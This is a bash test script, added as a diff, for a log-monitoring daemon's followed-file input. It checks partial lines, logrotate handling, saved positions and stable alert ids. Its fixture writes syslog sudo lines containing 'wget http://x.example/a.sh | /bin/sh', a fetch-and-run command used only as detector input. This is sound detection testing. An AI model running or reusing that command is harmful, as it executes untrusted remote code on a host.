@@ -1,0 +1,95 @@
+#!/usr/bin/env bash
+# A file input with `follow: true` (a host agent following /var/log/auth.log):
+# lines appended are read as they come (half a line waits for its end), a
+# logrotate rename + create is followed (lines written to the old file after
+# the rename are read first), the position survives a restart (lines written
+# while stopped are read, none twice), and alert ids do not depend on where
+# reading started (topic PATH#INODE, offset past the line).
+set -euo pipefail
+bin=$1
+tmp=$(mktemp -d)
+daemon=
+trap '[ -n "$daemon" ] && kill -9 "$daemon" 2>/dev/null; rm -rf "$tmp"' EXIT
+fail() { echo "FAIL: $*" >&2; exit 1; }
+line() {  # line HOST: a sudo command that msticpy's risky-command rules flag
+  printf '<86>Jul  8 16:08:00 %s sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget http://x.example/a.sh | /bin/sh\n' "$1"
+}
+alerts() { [ -f "$tmp/alerts.jsonl" ] && wc -l < "$tmp/alerts.jsonl" || echo 0; }
+wait_alerts() {  # wait_alerts N
+  for _ in $(seq 100); do [ "$(alerts)" -ge "$1" ] && break; sleep 0.1; done
+  [ "$(alerts)" = "$1" ] || fail "expected $1 alerts, got $(alerts): $(cat "$tmp/err")"
+}
+cat > "$tmp/config.yaml" <<EOF
+metrics: {listen: ""}
+parsers: {year: 2024}
+inputs:
+  - {stream: syslog, path: auth.log, follow: true, position_file: auth.pos, from_start: true}
+detectors: {ioc: {enabled: false}}
+sinks:
+  - {type: file, path: $tmp/alerts.jsonl}
+EOF
+start() {
+  "$bin" run --config "$tmp/config.yaml" > /dev/null 2>> "$tmp/err" &
+  daemon=$!
+}
+stop() {
+  kill -TERM "$daemon"
+  wait "$daemon" || fail "exit status $? after SIGTERM: $(cat "$tmp/err")"
+  daemon=
+}
+
+line h1 > "$tmp/auth.log"
+start
+wait_alerts 1
+line h2 | head -c 40 >> "$tmp/auth.log"  # half a line: not read before its end
+sleep 1
+[ "$(alerts)" = 1 ] || fail "half a line was read as a line"
+line h2 | tail -c +41 >> "$tmp/auth.log"
+wait_alerts 2
+# logrotate: rename, a late write to the old file, then the new file.
+mv "$tmp/auth.log" "$tmp/auth.log.1"
+line h3 >> "$tmp/auth.log.1"
+sleep 0.5
+line h4 > "$tmp/auth.log"
+wait_alerts 4
+stop
+grep -q "followed: 1 rotations" "$tmp/err" || fail "rotation not reported: $(cat "$tmp/err")"
+[ -s "$tmp/auth.pos" ] || fail "no position saved"
+
+line h5 >> "$tmp/auth.log"  # while stopped
+start
+wait_alerts 5
+sleep 1
+stop
+hosts=$(python3 -c '
+import json, sys
+print(" ".join(json.loads(l)["host.name"] for l in open(sys.argv[1])))' "$tmp/alerts.jsonl")
+[ "$hosts" = "h1 h2 h3 h4 h5" ] || fail "alerts for hosts '$hosts', expected h1 h2 h3 h4 h5"
+ids=$(python3 -c '
+import json, sys
+print(len({json.loads(l)["id"] for l in open(sys.argv[1])}))' "$tmp/alerts.jsonl")
+[ "$ids" = 5 ] || fail "$ids distinct alert ids for 5 alerts"
+topic=$(python3 -c '
+import json, sys
+print(json.loads(open(sys.argv[1]).readlines()[4])["loghunt.position.topic"])' "$tmp/alerts.jsonl")
+inode=$(stat -c %i "$tmp/auth.log")
+[ "$topic" = "$tmp/auth.log#$inode" ] || fail "position topic '$topic', expected $tmp/auth.log#$inode"
+
+# The same line read again from the start (position removed) gets the same id.
+first_id=$(head -1 "$tmp/alerts.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
+rm "$tmp/auth.pos" "$tmp/alerts.jsonl"
+mv "$tmp/auth.log.1" "$tmp/auth.log"  # h1..h3 again, in the file they were read from
+start
+wait_alerts 3
+stop
+again=$(head -1 "$tmp/alerts.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
+[ "$again" = "$first_id" ] || fail "alert id $again on rereading, was $first_id"
+
+# Config errors: stdin cannot be followed; position_file without follow.
+printf 'inputs:\n  - {stream: syslog, path: "-", follow: true}\n' > "$tmp/bad.yaml"
+if "$bin" check-config "$tmp/bad.yaml" 2> "$tmp/bad.err"; then fail "follow of stdin accepted"; fi
+grep -q "follow: a followed input is a file, not stdin" "$tmp/bad.err" || fail "$(cat "$tmp/bad.err")"
+printf 'inputs:\n  - {stream: syslog, path: x.log, position_file: x.pos}\n' > "$tmp/bad.yaml"
+if "$bin" check-config "$tmp/bad.yaml" 2> "$tmp/bad.err"; then fail "position_file without follow accepted"; fi
+grep -q "position_file: only used by a followed file input" "$tmp/bad.err" || fail "$(cat "$tmp/bad.err")"
+echo "follow_input_test: ok"
